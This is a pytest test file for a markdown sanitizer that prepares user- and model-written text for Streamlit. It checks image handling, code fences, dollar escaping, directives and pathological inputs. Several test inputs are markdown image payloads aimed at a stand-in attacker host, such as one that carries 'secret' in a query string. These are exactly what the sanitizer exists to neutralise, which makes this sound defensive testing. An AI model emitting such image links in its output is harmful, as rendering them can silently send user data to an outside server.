"""What people and models write reaches Streamlit as markdown and as nothing else."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ui.markdown import show


@pytest.mark.parametrize(
    "image",
    [
        "![cat](https://evil.example/?q=secret)",
        "![](https://evil.example/x.png)",
        "!![x](https://evil.example/x.png)",
        "![a [b] c](https://evil.example/x.png)",
        "![x][1]\n\n[1]: https://evil.example/x.png",
        "- item\n\n  ![x](https://evil.example/x.png)",
        "> ```\n\n![x](https://evil.example/x.png)",
        "- ```\n\n![x](https://evil.example/x.png)",
        "<div>\n```\n</div>\n\n![x](https://evil.example/x.png)",
        "$$\n```\n$$\n![x](https://evil.example/x.png)",
        "text\n    ```\n![x](https://evil.example/x.png)",
        "<a href='`'>![x](https://evil.example/x.png)`",
        "```\ncode\n```\n![x](https://evil.example/x.png)",
    ],
)
def test_a_remote_image_never_reaches_the_browser_as_one(image: str) -> None:
    assert "![" not in show(image)


def test_an_image_becomes_a_link_with_its_name() -> None:
    assert show("See ![a cat](https://a.example/cat.png).") == "See [a cat](https://a.example/cat.png)."
    assert show("![](https://a.example/cat.png)") == "[image](https://a.example/cat.png)"


def test_a_diagram_that_names_an_address_is_shown_as_code() -> None:
    assert show('```mermaid\nA@{ img: "https://evil.example/x" }\n```').startswith("```\n")
    assert show("```mermaid\ngraph TD; A-->B\n```").startswith("```mermaid\n")


@pytest.mark.parametrize(
    "code",
    [
        "```python\nprice = '$5'  # :red[x] ![a](b) \\(x\\)\n```",
        "~~~\n:material/home: and $x$\n~~~",
        "1. Do\n   ```sh\n   echo $HOME :tada: ![a](b)\n   ```",
        "`$5 :red[x]`",
        "``a ` $b``",
    ],
)
def test_code_is_left_as_it_was_written(code: str) -> None:
    assert show(code) == code


def test_an_unfinished_fence_is_code_to_the_end() -> None:
    assert show("```\n$HOME and $PATH") == "```\n$HOME and $PATH"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It costs $5 and $6.", r"It costs \$5 and \$6."),
        ("From $5 to 6$ or $7", r"From \$5 to 6\$ or \$7"),
        ("US$5 and US$6", r"US\$5 and US\$6"),
        (r"already \$5", r"already \$5"),
        ("so $x^2$ and $E=mc^2$ for $5", r"so $x^2$ and $E=mc^2$ for \$5"),
        ("$$\nx + y\n$$", "$$\nx + y\n$$"),
        (r"so \(x^2\)", "so $x^2$"),
        ("so\n\\[\nx^2\n\\]\nthere", "so\n$$\nx^2\n$$\nthere"),
        (r"a list \[see\] here", r"a list \[see\] here"),
    ],
)
def test_dollars_are_money_unless_they_hold_a_formula(text: str, shown: str) -> None:
    assert show(text) == shown


@pytest.mark.parametrize("text", [":red[loud]", ":blue-badge[x]", ":color[x]{foreground=red}", ":small[x]", "note:red[x]"])
def test_streamlits_directives_are_shown_as_typed(text: str) -> None:
    assert not re.search(r"(?<!\\):[a-z-]+[\[{]", show(text))


def test_icons_short_codes_and_blocks_of_streamlit_are_shown_as_typed() -> None:
    assert ":material/" not in show("go :material/home: now")
    assert not re.search(r":[\w+-]+:", show("a party :tada: at 10:30:45"))
    assert show("::leaf[x]").startswith(r"\:\:")


def test_addresses_keep_every_sign() -> None:
    address = "https://a.example:8501/x:y:z?price=$5&other=$6"
    assert show(f"see {address} now") == f"see {address} now"
    assert show(f"[x]({address})") == f"[x]({address})"


def test_lines_of_a_prompt_stay_lines() -> None:
    assert show("one\ntwo\n\nthree", keep_lines=True) == "one  \ntwo\n\nthree"
    assert show("```\none\ntwo\n```", keep_lines=True) == "```\none\ntwo\n```"


@given(st.text(alphabet=st.sampled_from("ab !$`~[](){}:*_\\-\n>1.<"), max_size=80))
def test_words_are_never_lost(text: str) -> None:
    letters = [sign for sign in show(text, keep_lines=True) if sign.isalnum()]
    assert "".join(letters).replace("image", "") == "".join(sign for sign in text if sign.isalnum()).replace("image", "")


@given(st.text(max_size=200))
def test_any_text_can_be_shown(text: str) -> None:
    assert isinstance(show(text), str)


@pytest.mark.parametrize("sign", ["\\(", "\\[", "$$", "`` ` "])
def test_a_megabyte_of_signs_that_open_and_never_close_stays_text(sign: str) -> None:
    """Without a bound on what stands between two signs this takes hours."""
    text = sign * (1_000_000 // len(sign)) + "end"
    assert show(text).endswith("end")
